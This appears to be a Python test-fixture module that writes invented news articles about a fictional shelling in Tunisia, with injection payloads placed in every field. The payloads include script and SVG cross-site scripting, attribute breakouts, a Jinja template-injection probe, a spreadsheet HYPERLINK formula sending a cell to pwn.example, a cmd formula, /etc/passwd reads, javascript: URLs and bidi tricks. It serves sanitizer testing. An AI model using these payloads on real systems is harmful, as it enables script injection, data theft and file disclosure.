"""Pages whose writers would have the desk run their words. All are invented; "pwn" marks what must not run.

Each text stands in the title, the outlet, the author, the address, a quote, a speaker, a place name and the
body of an article of its own, around a report that gives claims, so that it comes wherever words come.
"""

from __future__ import annotations

import json
from pathlib import Path

TEXTS = {
    # Elements
    "script": "<script>pwn()</script>",
    "script_cased": "<ScRiPt src=//pwn.example/x.js></sCrIpT >",
    "script_broken": "<scr<script>ipt>pwn()</scr</script>ipt>",
    "style": "<style>@import '//pwn.example/x.css'; body{display:none}</style>",
    "svg": "<svg onload=pwn()><animate onbegin=pwn() attributeName=x>",
    "svg_use": "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x'/></svg>",
    "iframe": "<iframe srcdoc='&lt;script&gt;parent.pwn()&lt;/script&gt;'></iframe>",
    "img": "<img src=x onerror=pwn()>",
    "img_remote": '<img src="http://pwn.example/seen.gif">',
    "object": "<object data=//pwn.example/x><embed src=//pwn.example/y>",
    "base": "<base href=//pwn.example/><link rel=stylesheet href=//pwn.example/z>",
    "meta": "<meta http-equiv=refresh content='0;url=//pwn.example/'>",
    "form": "<form action=//pwn.example/><input name=csrf><button>Go</button></form>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "template": "<template><script>pwn()</script></template><noscript><p id='</noscript><img onload=pwn()>",
    "details": "<details open ontoggle=pwn()><summary>x</summary></details>",
    "htmx": '<div hx-get="//pwn.example/" hx-trigger="load" data-hx-on:load="pwn()">x</div>',
    # Breaking out of where words stand
    "close_script": "</script><script>pwn()</script>",
    "close_title": "</title></head><body onload=pwn()>",
    "close_textarea": "</textarea><img src=x onerror=pwn()>",
    "close_option": "</option></select><img src=x onerror=pwn()>",
    "attribute_double": '" onmouseover="pwn()" autofocus onfocus="pwn()" x="',
    "attribute_single": "' onmouseover='pwn()' style='x:expression(pwn())' x='",
    "attribute_backtick": "` onmouseover=pwn() `",
    "comment": "--><script>pwn()</script><!--",
    "comment_conditional": "<!--[if true]><script>pwn()</script><![endif]-->",
    "cdata": "]]><script>pwn()</script><![CDATA[",
    "json": '"]},"pwn":["</script>',
    "json_line_separators": "\u2028\u2029'];pwn();//\\",
    "entities_once": "&lt;script&gt;pwn()&lt;/script&gt;",
    "entities_twice": "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "entities_numeric": "&#60;script&#62;pwn()&#x3c;/script&#x3e;&#0;&#x1F;",
    # Languages that templates, sheets and documents speak
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# pwn #}",
    "format": "%s%n{0.__class__}${7*7}#{7*7}<%= pwn %>",
    "formula": '=HYPERLINK("http://pwn.example/?"&A1,"Go")',
    "formula_others": "@SUM(1+1)*cmd|' /C pwn'!A0",
    "markdown": "[Go](javascript:pwn()) ![x](http://pwn.example/seen.gif) <http://pwn.example>",
    "markdown_block": "# Pwn\n\n```\npwn\n```\n\n[^1]: pwn\n\n| a | b |\n|---|---|",
    "typst": '#read("/etc/passwd") #eval("pwn") $pwn$ @pwn <pwn> \\ #include "pwn.typ"',
    # Letters that mislead
    "bidi": "\u202enwp\u202c \u2066pwn\u2069 \u200fpwn\u061c",
    "zero_width": "p\u200bw\u200cn\u200d\u2060\ufeff\u00ad",
    "control": "pwn\u0000\u0001\u0007\u001b]8;;http://pwn.example\u0007Go\u001b]8;;\u0007\u001b[31m\u0085\ufffe",
    "combining": "p" + "\u0301\u0327" * 80 + "wn",
    "huge_word": "pwn" * 4_000,
    "arabic": "\u0642\u0627\u0644 <b>pwn</b> \u0627\u0644\u062c\u064a\u0634",
}  # fmt: skip

ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "http://pwn.example/\" onmouseover=\"pwn()",
    "https://desk@pwn.example:99999/<script>pwn()</script>",
    "//pwn.example/x",
    "file:///etc/passwd",
)  # fmt: skip

TOWNS = ("Ghomrassen", "Tataouine", "Medenine")


def body(text: str, number: int) -> str:
    """A report with claims, quotes, speakers and figures in which a text stands everywhere."""
    town, day = TOWNS[number % 3], 7 + number % 3
    return (
        f"TATAOUINE, Tunisia - At least {12 + number} people were killed when the army shelled the market of "
        f"{town} on {day} May 2019, Colonel Hatem Jaziri {text} said.\n\n"
        f"“The army shelled {text} the hospital of {town},” said Sonia Trabelsi, the director of {text}.\n\n"
        f"Rebels captured {text} and the town of {town} on Tuesday, according to {text}.\n\n"
        f"{text} denied that {30 + number} people were injured in {town} {text}."
    )


def articles() -> list[dict[str, str]]:
    return [
        {
            "id": f"{name} {text[:60]}",
            "url": ADDRESSES[n % len(ADDRESSES)] if n % 2 else f"https://news.example/{n}?q={text[:40]}",
            "outlet": f"{text[:200]} Courier",
            "author": text[:200],
            "title": f"{text[:300]} shells {TOWNS[n % 3]}",
            "published_at": f"2019-05-{8 + n % 3:02}T08:00:00Z",
            "text": body(text, n),
        }
        for n, (name, text) in enumerate(TEXTS.items())
    ]


def page(text: str, number: int) -> str:
    """The same as a web page: what a browser would run stands in its markup, not in its words."""
    paragraphs = "".join(f"<p>{p} {text}</p>" for p in body("the Courier", number).split("\n\n"))
    return (
        f"<!doctype html><html><head><title>Shelling of the market {text}</title>"
        f'<meta property="og:site_name" content="{text}"><meta name="author" content="{text}">'
        f'<link rel="canonical" href="javascript:pwn()"></head>'
        f"<body><article><h1>Army shells {text}</h1>{paragraphs}</article></body></html>"
    )


def written(folder: Path) -> Path:
    """The corpus as files: one of JSON Lines, and a web page of each fourth text."""
    folder.mkdir()
    lines = (json.dumps(article) for article in articles())
    (folder / "articles.jsonl").write_text("\n".join(lines), encoding="utf-8")
    for n, (name, text) in enumerate(TEXTS.items()):
        if n % 4 == 0:
            (folder / f"{name}<b>pwn.html").write_text(page(text, n + 50), encoding="utf-8", errors="replace")
    return folder
